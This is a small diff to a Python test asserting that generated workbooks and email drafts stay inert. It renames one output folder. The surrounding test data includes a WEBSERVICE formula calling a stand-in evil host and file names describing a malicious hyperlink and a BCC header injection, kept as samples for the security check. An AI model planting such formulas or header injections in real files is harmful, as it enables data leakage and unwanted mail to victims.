@@ -176,7 +176,7 @@ def test_eml_and_outcome_workbook_are_inert(tmp_path):
     assert helpers["A2"].value == EVIL and helpers["A2"].data_type == "s"
     assert helpers["F2"].value == '=WEBSERVICE("http://evil.example")' and helpers["F2"].data_type == "s"
 
-    drafts = sorted((tmp_path / "drafts").glob("*.eml"))
+    drafts = sorted((tmp_path / "outcome-drafts").glob("*.eml"))
     assert [p.name for p in drafts] == [
         "01-hyperlink-http-evil-example-x.eml",
         "02-eve-example-bcc-victim-example-org.eml",
